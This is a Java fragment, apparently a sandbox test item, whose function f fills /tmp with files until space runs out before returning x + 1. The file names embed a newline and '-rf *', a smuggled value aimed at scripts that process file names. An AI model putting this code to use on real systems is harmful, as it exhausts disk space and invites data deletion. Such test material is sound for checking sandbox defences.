// Leaves as many files as there is room for, with odd names.
import java.io.*;
import java.nio.file.*;
import java.util.*;
class Problem {
    public static long f(long x) {
        try {
            for (int i = 0; ; i++) {
                Files.createFile(Paths.get("/tmp/\n-rf *" + i + "\u00e9" + x));
            }
        } catch (Exception refused) {
            System.err.println(refused);
        }
        return x + 1;
